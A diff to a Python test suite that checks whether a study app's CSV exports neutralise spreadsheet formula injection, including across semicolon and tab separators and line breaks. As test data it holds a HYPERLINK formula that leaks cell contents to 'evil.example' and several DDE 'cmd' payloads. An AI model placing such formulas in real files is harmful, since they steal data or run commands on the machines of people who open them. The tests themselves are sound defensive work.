@@ -11,6 +11,7 @@ from __future__ import annotations
 import csv
 import io
 import math
+import re
 from decimal import Decimal
 
 import pandas as pd
@@ -40,8 +41,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
         "+cmd|' /C calc'!A0",
         "-2+3",
         "@SUM(A1:A9)",
-        "\t=1+1",
-        "\r=1+1",
         "-",
         "=",
         "-0.5",  # text from someone, even when it reads like a number
@@ -52,10 +51,29 @@ def test_text_that_starts_like_a_formula_gets_a_quote(text):
 
 
 @pytest.mark.parametrize(
-    "text", ["", "GPT-4", "a=b", "5", "0.5", "'=already quoted", " =1+1", "\n=1", "user:12"]
-)
+    "text", ["", "GPT-4", "a=b", "5", "0.5", "'=already quoted", " =1+1", "user:12",
+             "GPT-4, -0.5 (fine)", "a; b", "two\nlines"]
+)  # fmt: skip
 def test_other_text_is_unchanged(text):
     assert neutralise(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("ok;=cmd|' /C calc'!A0", "ok;'=cmd|' /C calc'!A0"),
+        ("a\n=1+1", "a\n'=1+1"),
+        ("a\r\n@SUM(A1)", "a\r\n'@SUM(A1)"),
+        ("a,+1", "a,'+1"),
+        ('a;""=1', 'a;""\'=1'),  # quotes between: still the start of a cell
+        ("a\t-1", "a\t'-1"),
+        ("\t=1+1", "'\t'=1+1"),
+    ],
+)
+def test_a_formula_start_after_a_separator_or_line_break_gets_a_quote(text, written):
+    """Read with another separator (a semicolon locale, a tab) or split at a
+    line break, each would start a cell with a formula."""
+    assert neutralise(text) == written
 
 
 @pytest.mark.parametrize("value", [-0.5, -3, Decimal("-1.25"), 0, 7.5, True, False, None])
@@ -76,18 +94,20 @@ def test_csv_text_neutralises_header_and_cells_and_keeps_numbers():
 
 @pytest.mark.parametrize("write", ["csv_text", "frame_csv"])
 def test_a_semicolon_locale_spreadsheet_cannot_split_a_formula_out_of_a_text(write):
-    """Where the list separator is ";", a spreadsheet splits an unquoted line at
-    every semicolon: `ok;=cmd` would become a cell "=cmd". Text cells are
-    quoted, so read with ";" the line is still one cell per text."""
-    comment = "ok;=cmd|' /C calc'!A0"
+    """Where the list separator is ";", a spreadsheet splits the comma file at
+    every semicolon outside a cell that starts with a quote: `ok;=cmd` in the
+    middle of a line would become a cell "=cmd", and a line break inside a
+    text would start the next line with "=1+1". Read with ",", ";" or a tab,
+    no cell starts like a formula."""
+    comment = "ok;=cmd|' /C calc'!A0 a\n=1+1"
+    rows = [{"n": 1, "comment": comment, "score": 7}]
     if write == "csv_text":
-        text = csv_text(["comment", "score"], [{"comment": comment, "score": 7}])
+        text = csv_text(["n", "comment", "score"], rows)
     else:
-        text = frame_csv(pd.DataFrame({"comment": [comment], "score": [7]}))
-    line = text.splitlines()[1]
-    assert line == "\"ok;=cmd|' /C calc'!A0\",7"
-    for separator in (",", ";"):
-        cells = next(csv.reader(io.StringIO(line), delimiter=separator))
+        text = frame_csv(pd.DataFrame(rows))
+    assert text.splitlines()[1] == "1,\"ok;'=cmd|' /C calc'!A0 a"
+    for separator in (",", ";", "\t"):
+        cells = [c for line in csv.reader(io.StringIO(text), delimiter=separator) for c in line]
         assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), (separator, cells)
 
 
@@ -115,7 +135,7 @@ def test_neutralise_frame_leaves_numeric_columns_numeric():
 def test_a_carriage_return_inside_a_text_stays_inside_its_cell():
     frame = pd.DataFrame({"name": ["a\rb", "\r=1"], "n": [1, 2]})
     rows = list(csv.reader(io.StringIO(frame_csv(frame), newline="")))
-    assert rows == [["name", "n"], ["a\rb", "1"], ["'\r=1", "2"]]
+    assert rows == [["name", "n"], ["a\rb", "1"], ["'\r'=1", "2"]]
     text = csv_text(["name"], [{"name": "a\rb"}])
     assert list(csv.reader(io.StringIO(text, newline=""))) == [["name"], ["a\rb"]]
 
@@ -123,7 +143,9 @@ def test_a_carriage_return_inside_a_text_stays_inside_its_cell():
 # --- Every export, with hostile values in every stranger-fillable field -------------------------
 
 HOSTILE = {
-    "comment": HYPERLINK,
+    # mid-line, read with ";" a cell starts with "=" unless neutralised inside;
+    # after a line break, the next line does
+    "comment": HYPERLINK + " ok;=cmd|' /C calc'!A0 a\n=1+1",
     "pid": "-2-3",  # a PROLIFIC_PID may start with "-"
     "system": "+cmd|' /C calc'!A0",
     "meeting": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -157,6 +179,20 @@ def hostile(two_meetings, client, django_user_model):
 def read_back(text: str) -> tuple[list[str], list[list[str]]]:
     header, *rows = list(csv.reader(io.StringIO(text, newline="")))
     return header, rows
+
+
+def assert_safe_with_any_separator(text: str) -> None:
+    """Read as a semicolon-locale (or tab) spreadsheet reads a comma file: no
+    cell of any line starts like a formula."""
+    for separator in (";", "\t"):
+        lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
+        cells = [cell for line in lines for cell in line]
+        dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
+        assert not dangerous, (separator, dangerous)
+        # and split plainly at every separator and line end, quotes or not
+        for piece in re.split(r"[;\t\r\n]", text):
+            bare = piece.lstrip('"')
+            assert not (bare.startswith(FORMULA_STARTS) and not is_number(bare)), (separator, piece)
 
 
 def is_number(cell: str) -> bool:
@@ -194,8 +230,11 @@ def test_study_exports_neutralise_hostile_values(client, hostile):
 
     header, rows = read_back(api_tidy)
     cells = assert_safe(header, rows)
+    assert_safe_with_any_separator(api_tidy)
+    assert_safe_with_any_separator(api_wide)
     for field in ("comment", "pid", "system", "meeting", "question_id", "study"):
-        assert "'" + HOSTILE[field] in cells, field
+        assert neutralise(HOSTILE[field]) in cells, field
+    assert "ok;'=cmd" in neutralise(HOSTILE["comment"])
     assert set(column(header, rows, "participant")) == {"'" + HOSTILE["pid"]}
     scores = [int(s) for s in column(header, rows, "score")]
     assert sorted(set(scores)) == [1, 7]  # numbers stay numbers
@@ -205,7 +244,7 @@ def test_study_exports_neutralise_hostile_values(client, hostile):
     cells = assert_safe(header, rows)
     assert "'" + HOSTILE["pid"] in header  # a rater id as a column name
     for field in ("system", "meeting", "question_id"):
-        assert "'" + HOSTILE[field] in cells, field
+        assert neutralise(HOSTILE[field]) in cells, field
     assert {int(s) for s in column(header, rows, "'" + HOSTILE["pid"])} == {1, 7}
 
 
@@ -223,8 +262,9 @@ def test_report_exports_neutralise_hostile_values(client, hostile):
         assert text.count("\r\n", 0, text.index("response_id")) == len(preamble)  # a line each
         header, *rows = list(csv.reader(io.StringIO(text, newline="")))[len(preamble) :]
         cells = assert_safe(header, rows)
+        assert_safe_with_any_separator(text)
         for field in ("system", "meeting", "question_id", "evaluator"):
-            assert "'" + HOSTILE[field] in cells, (fmt, field)
+            assert neutralise(HOSTILE[field]) in cells, (fmt, field)
         if fmt == "csv":
             assert "'" + HOSTILE["pid"] in column(header, rows, "rater")
             assert all(is_number(s) for s in column(header, rows, "score"))
